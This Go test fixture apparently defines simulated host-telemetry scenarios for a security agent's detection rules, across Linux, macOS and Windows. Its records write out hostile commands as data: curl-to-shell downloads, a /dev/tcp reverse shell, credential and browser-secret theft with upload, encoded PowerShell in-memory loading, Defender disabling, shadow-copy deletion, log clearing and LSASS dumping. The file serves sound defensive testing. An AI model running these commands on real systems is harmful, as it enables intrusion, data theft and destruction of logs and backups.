package agenttest

// scenarios is the table of what hosts can show. Addresses are those of RFC 5737.
var scenarios = []Scenario{
	{
		Name: "web-shell", Platform: Linux,
		Story: "Somebody runs commands through PHP, fetches a second stage and lets it call home.",
		Rules: []string{
			"linux/web_server_runs_shell_command", "linux/download_piped_to_shell", "linux/program_in_hidden_place", "linux/temporary_program_calls_out",
		},
		actors: []actor{
			{program: program{path: "/usr/sbin/php-fpm8.2", arguments: "--nodaemonize", uid: 33}, before: true},
			{program: program{path: "/usr/bin/dash", arguments: "-c id; uname -a; cat /etc/passwd", uid: 33}, by: 1},
			{program: program{path: "/usr/bin/dash", arguments: "-c curl -fsSL http://198.51.100.66/i.sh | bash", uid: 33}, by: 1},
			{program: program{path: "/dev/shm/.font-unix", arguments: "-d", uid: 33}, by: 3},
		},
		traces: []trace{connection(4, "203.0.113.166", "443")},
	},
	{
		Name: "reverse-shell", Platform: Linux,
		Story: "A cron job opens a shell to the outside, in which somebody reads the password hashes.",
		Rules: []string{"linux/shell_over_dev_tcp", "linux/shell_connects_out", "linux/shadow_file_copied"},
		actors: []actor{
			{program: program{path: "/usr/bin/bash", arguments: "-c bash -i >& /dev/tcp/203.0.113.145/4444 0>&1"}},
			{program: program{path: "/usr/bin/cat", arguments: "/etc/shadow"}, by: 1},
		},
		traces: []trace{connection(1, "203.0.113.145", "4444")},
	},
	{
		Name: "miner", Platform: Linux,
		Story: "A coin miner is started and put into cron, so that it comes back.",
		Rules: []string{"linux/coin_miner_started", "linux/program_in_hidden_place", "linux/cron_job_fetches_code"},
		actors: []actor{
			{program: program{path: "/var/tmp/.cache/kswapd0", arguments: "-o stratum+tcp://198.51.100.80:3333 --donate-level 1", uid: -1}},
		},
		traces: []trace{{table: "crontab", columns: record{
			"event": "", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
			"command": "curl -fsSL http://198.51.100.80/c.sh | sh", "path": "/var/spool/cron/crontabs/{user}",
		}}},
	},
	{
		Name: "cover-up", Platform: Linux,
		Story: "The agent is stopped, the record of sign-ins shredded and the history of the shell pointed at nothing.",
		Rules: []string{"linux/security_service_stopped", "linux/logs_destroyed", "linux/shell_history_suppressed"},
		actors: []actor{
			{program: program{path: "/usr/bin/bash", arguments: "-i"}, before: true},
			{program: program{path: "/usr/bin/systemctl", arguments: "stop osqueryd.service"}, by: 1},
			{program: program{path: "/usr/bin/shred", arguments: "-zu /var/log/wtmp"}, by: 1},
			{program: program{path: "/usr/bin/ln", arguments: "-sf /dev/null /root/.bash_history"}, by: 1},
		},
	},
	{
		Name: "second-root", Platform: Linux,
		Story: "An account with the rights of root appears, and a cron job fetches what it runs. The default config is enough to see it.",
		Rules: []string{"linux/second_root_account", "linux/cron_job_fetches_code"},
		traces: []trace{
			{table: "users", columns: record{"uid": "0", "gid": "0", "username": "sysupd", "description": "", "directory": "/root", "shell": "/bin/bash"}},
			{table: "crontab", columns: record{
				"event": "@reboot", "minute": "", "hour": "", "day_of_month": "", "month": "", "day_of_week": "",
				"command": "/dev/shm/.sysupd", "path": "/var/spool/cron/crontabs/sysupd",
			}},
		},
	},
	{
		Name: "stealer", Platform: Darwin,
		Story: "A program asks for the password in a window of its own, takes what browsers keep and sends it away.",
		Rules: []string{
			"macos/password_asked_by_script", "macos/keychain_secrets_read", "macos/browser_data_copied", "macos/folder_packed_for_exfiltration",
			"macos/stolen_files_uploaded", "macos/unsigned_program_in_shared_place",
		},
		actors: []actor{
			{program: program{path: "/Volumes/Installer/Setup.app/Contents/MacOS/Setup", uid: -1}, columns: unsigned},
			{program: program{path: "/usr/bin/osascript", arguments: `-e display dialog "macOS needs your password to go on" default answer "" with hidden answer`, uid: -1}, by: 1},
			{program: program{path: "/usr/bin/security", arguments: "find-generic-password -wa Chrome Safe Storage", uid: -1}, by: 1},
			{program: program{path: "/bin/cp", arguments: "/Users/{user}/Library/Application Support/Google/Chrome/Default/Cookies /tmp/51442/c", uid: -1}, by: 1},
			{program: program{path: "/usr/bin/ditto", arguments: "-c -k --sequesterRsrc /tmp/51442/ /tmp/out.zip", uid: -1}, by: 1},
			{program: program{path: "/usr/bin/curl", arguments: "-s -F file=@/tmp/out.zip http://198.51.100.66/log", uid: -1}, by: 1},
		},
	},
	{
		Name: "launch-agent", Platform: Darwin,
		Story: "A downloaded app loses its quarantine mark and starts a hidden script at each sign-in.",
		Rules: []string{"macos/quarantine_mark_removed", "macos/launch_item_runs_from_odd_place"},
		actors: []actor{
			{program: program{path: "/usr/bin/xattr", arguments: "-dr com.apple.quarantine /Users/{user}/Downloads/Player.app", uid: -1}},
		},
		traces: []trace{{table: "launchd", columns: record{
			"path": "/Users/{user}/Library/LaunchAgents/com.player.update.plist", "name": "com.player.update.plist", "label": "com.player.update",
			"program": "", "program_arguments": "/bin/bash /Users/{user}/.player/update", "run_at_load": "1", "keep_alive": "1", "username": "{user}",
		}}},
	},
	{
		Name: "login-item", Platform: Darwin,
		Story: "A program in a shared folder starts at each sign-in, and a cron job fetches code. The default config is enough to see it.",
		Rules: []string{"windows/startup_item_from_odd_place", "linux/cron_job_fetches_code"},
		traces: []trace{
			{table: "startup_items", columns: record{
				"name": "helper", "path": "/Users/Shared/.helper/helper", "args": "", "type": "Launch Agent",
				"source": "/Users/{user}/Library/LaunchAgents", "status": "enabled", "username": "{user}",
			}},
			{table: "crontab", columns: record{
				"event": "", "minute": "*/10", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
				"command": "curl -s http://198.51.100.66/m | sh", "path": "/var/at/tabs/{user}",
			}},
		},
	},
	{
		Name: "phishing", Platform: Windows,
		Story: "A document starts PowerShell, which looks up a tunnel and loads a program into memory.",
		Rules: []string{
			"windows/office_starts_shell", "windows/encoded_powershell_downloads", "windows/script_host_resolves_hosting_or_tunnel_name",
			"windows/powershell_loads_code_in_memory",
		},
		actors: []actor{
			{program: program{path: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, arguments: `/n "C:\Users\{user}\Downloads\invoice.docm"`, uid: -1}, before: true},
			{program: program{path: powershell, arguments: "-nop -w hidden -enc " + encodedDownload, uid: -1}, by: 1},
		},
		traces: []trace{
			{by: 2, table: "dns_lookup_events", columns: record{
				"pid": "{pid}", "path": "{path}", "username": `{host}\{user}`, "name": "plain-otter.trycloudflare.com", "type": "A", "status": "0", "response": "203.0.113.166;",
			}},
			{by: 2, table: "powershell_events", columns: record{
				"script_block_id": "5d1c2f0e-8a3b-4b7c-9d2e-0f1a2b3c4d5e", "script_block_count": "1", "script_name": "", "script_path": "", "cosine_similarity": "0.2",
				"script_text": "$b=[Convert]::FromBase64String($t);[System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
			}},
		},
	},
	{
		Name: "ransomware", Platform: Windows,
		Story: "Protection is switched off, shadow copies are deleted and the log is cleared.",
		Rules: []string{
			"windows/defender_weakened_by_command", "windows/recovery_destroyed", "windows/event_log_cleared_by_command", "windows/security_log_cleared",
			"windows/defender_protection_off",
		},
		actors: []actor{
			{program: program{path: `C:\ProgramData\enc.exe`, uid: -1}, columns: elevated},
			{program: program{path: powershell, arguments: "Set-MpPreference -DisableRealtimeMonitoring $true", uid: -1}, by: 1, columns: elevated},
			{program: program{path: `C:\Windows\System32\vssadmin.exe`, arguments: "delete shadows /all /quiet", uid: -1}, by: 1, columns: elevated},
			{program: program{path: `C:\Windows\System32\wevtutil.exe`, arguments: "cl Security", uid: -1}, by: 1, columns: elevated},
		},
		traces: []trace{
			windowsLog("Microsoft-Windows-Windows Defender/Operational", "5001", `{"EventData":{"Product Name":"Microsoft Defender Antivirus"}}`),
			windowsLog("Security", "1102", `{"UserData":{"LogFileCleared":{"SubjectUserName":"{user}","SubjectDomainName":"{host}"}}}`),
		},
	},
	{
		Name: "credential-theft", Platform: Windows,
		Story: "The memory of the sign-in process and the hives with password hashes are saved.",
		Rules: []string{"windows/lsass_memory_dumped", "windows/credential_hives_saved"},
		actors: []actor{
			{program: program{path: `C:\Windows\System32\cmd.exe`, uid: -1}, before: true},
			{program: program{path: `C:\Windows\System32\rundll32.exe`, arguments: `C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\ProgramData\l.dmp full`, uid: -1}, by: 1, columns: elevated},
			{program: program{path: `C:\Windows\System32\reg.exe`, arguments: `save HKLM\SAM C:\ProgramData\s.hiv`, uid: -1}, by: 1, columns: elevated},
		},
	},
	{
		Name: "odd-task", Platform: Windows,
		Story: "A hidden task and a service in a public folder appear. The default config is enough to see it.",
		Rules: []string{"windows/odd_scheduled_task", "windows/service_runs_from_odd_place"},
		traces: []trace{
			{table: "scheduled_tasks", columns: record{
				"name": "Sync", "action": "powershell.exe -w hidden -enc " + encodedDownload, "path": `\Sync`, "enabled": "1", "hidden": "1",
			}},
			{table: "services", columns: record{
				"name": "wupd", "display_name": "Windows Update Helper", "service_type": "OWN_PROCESS", "start_type": "AUTO_START",
				"path": `C:\Users\Public\wupd.exe`, "module_path": "", "user_account": "LocalSystem",
			}},
		},
	},
}

const (
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	// encodedDownload is IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a')
	encodedDownload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADYANgAvAGEAJwApAA=="
)

// What is different about an event of a program.
var (
	unsigned = record{"platform_binary": "0", "team_id": "", "signing_id": "Setup"}
	elevated = record{"mandatory_label": "S-1-16-12288", "token_elevation_type": "TokenElevationTypeFull"}
)

func connection(by int, address, port string) trace {
	return trace{by: by, table: "socket_events", columns: record{
		"action": "connect", "pid": "{pid}", "path": "{path}", "auid": "4294967295", "family": "2", "protocol": "6", "fd": "3",
		"local_address": "", "local_port": "0", "remote_address": address, "remote_port": port, "success": "1", "status": "succeeded",
	}}
}

func windowsLog(channel, id, data string) trace {
	return trace{table: "windows_events", columns: record{
		"source": channel, "provider_name": "Microsoft-Windows-Eventlog", "provider_guid": "", "computer_name": "{host}", "eventid": id,
		"task": "104", "level": "4", "keywords": "0x4020000000000000", "data": data,
	}}
}
